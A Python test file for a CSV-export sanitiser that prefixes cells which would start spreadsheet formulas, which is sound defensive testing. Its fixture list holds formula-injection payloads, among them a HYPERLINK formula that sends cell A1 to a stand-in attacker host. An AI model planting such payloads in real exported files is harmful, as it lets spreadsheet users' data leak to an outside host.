import csv
import io
from decimal import Decimal

import pytest

from inspir.core.spreadsheet import SafeCsvWriter, csv_download, safe_cell

# What a spreadsheet would evaluate, as in OWASP's guidance on CSV injection.
ISSUE_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
HOSTILE = [
    *ISSUE_PAYLOADS,
    "\0=1",
    "-",
    "-12 members",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_becomes_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-3.5", "-3,5", "-0"])
def test_a_plain_negative_number_stays_a_number(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-12, -3.5, Decimal("-7.25"), 0, 1000])
def test_numbers_are_written_as_numbers(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize(
    "value", ["Union of Cotonou", "a = b", "https://example.org/?a=1", "'=already text", ""]
)
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_nothing_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_the_writer_makes_every_cell_safe_and_keeps_the_file_readable():
    stream = io.StringIO(newline="")

    SafeCsvWriter(stream).writerows([["name", "figure"], ["=1+1", -12], ["\r=1", "-3.5"]])

    assert list(csv.reader(io.StringIO(stream.getvalue(), newline=""))) == [
        ["name", "figure"],
        ["'=1+1", "-12"],
        ["'\r=1", "-3.5"],
    ]


def test_a_download_is_a_utf8_csv_attachment_with_safe_cells():
    response = csv_download([["Nom", "Sigle"], ["Bénin", "@SUM(A1)"]], filename="x.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))) == [
        ["Nom", "Sigle"],
        ["Bénin", "'@SUM(A1)"],
    ]
